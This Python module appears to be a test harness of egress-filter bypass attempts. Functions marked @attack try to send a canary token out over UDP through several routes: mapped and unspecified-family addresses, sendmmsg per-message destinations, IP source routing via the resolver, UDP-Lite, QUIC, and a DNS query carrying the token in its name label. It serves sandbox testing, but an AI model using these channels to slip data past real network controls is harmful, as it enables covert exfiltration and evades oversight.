"""Datagrams of UDP and its kin, with and without connect()."""


def dns_query():
    """A question for a name that carries the token."""
    labels = b"".join(bytes([len(l)]) + l for l in (TOKEN, b"example", b"com"))
    return struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!xHH", 1, 1)


def query(to):
    s = udp()
    s.sendto(dns_query(), to)
    return "answered" if TOKEN in s.recv(512) else "another answer"


@attack
def sendto_v4():
    return ask(udp(), V4)


@attack
def sendto_v6():
    return ask(udp(socket.AF_INET6), V6)


@attack
def sendto_mapped():
    return ask(udp(socket.AF_INET6), MAPPED)


@attack
def sendto_unspecified():
    """An IPv4 address whose family says nothing: the kernel takes it for one."""
    s = udp()
    check(libc.sendto(s.fileno(), TOKEN, len(TOKEN), 0, sockaddr(V4, socket.AF_UNSPEC), 16))
    return heard(s)


@attack
def sendto_v4_on_v6():
    s = udp(socket.AF_INET6)
    check(libc.sendto(s.fileno(), TOKEN, len(TOKEN), 0, sockaddr(V4), 16))
    return heard(s)


def send_many(s):
    """One message, with an address of its own."""
    to, data = ctypes.create_string_buffer(sockaddr(V4)), ctypes.create_string_buffer(TOKEN)
    vector = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(data), len(TOKEN)))
    message = struct.pack("QI4xQQ32x", ctypes.addressof(to), 16, ctypes.addressof(vector), 1)
    check(libc.sendmmsg(s.fileno(), message, 1, 0))


@attack
def sendmmsg():
    s = udp()
    send_many(s)
    return heard(s)


@attack
def connected_sendmmsg():
    """What a socket is connected to does not matter where a message has an address."""
    s = udp()
    s.connect((NEXT_HOP, PORT))
    send_many(s)
    return "sent"


@attack
def quic_v4():
    s = udp()
    return tell(s, V4)


@attack
def quic_v6():
    s = udp(socket.AF_INET6)
    return tell(s, V6)


@attack
def resolver_then_elsewhere():
    """A socket that is connected to the resolver sends to another address."""
    s = udp()
    s.connect(RESOLVER)
    s.sendto(TOKEN, V4)
    disconnect(s)
    return heard(s)


@attack
def resolver_by_source_route():
    """To the resolver, says sendmsg(); by way of the sink, says its control message."""
    s = udp()
    s.sendmsg([TOKEN], [(socket.IPPROTO_IP, IP_RETOPTS, source_route(SINK))], 0, RESOLVER)
    return "sent"


@attack
def allowed_by_source_route():
    """The packet's destination is one that is allowed, and only the next hop."""
    s = udp()
    s.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, source_route(WAYPOINT[0]))
    s.connect(V4)
    s.send(TOKEN)
    return "sent"


@attack
def sendto_waypoint():
    udp().sendto(TOKEN, WAYPOINT)
    return "sent"


@attack
def resolver():
    return query(RESOLVER)


@attack
def another_resolver():
    return query(V4)


@attack
def udplite_connected():
    s = udp(protocol=IPPROTO_UDPLITE)
    s.connect(V4)
    s.send(TOKEN)
    return "sent"


@attack
def udplite_sendto():
    udp(protocol=IPPROTO_UDPLITE).sendto(TOKEN, V4)
    return "sent"


@attack
def udplite_v6():
    s = udp(socket.AF_INET6, IPPROTO_UDPLITE)
    s.connect(V6)
    s.send(TOKEN)
    return "sent"
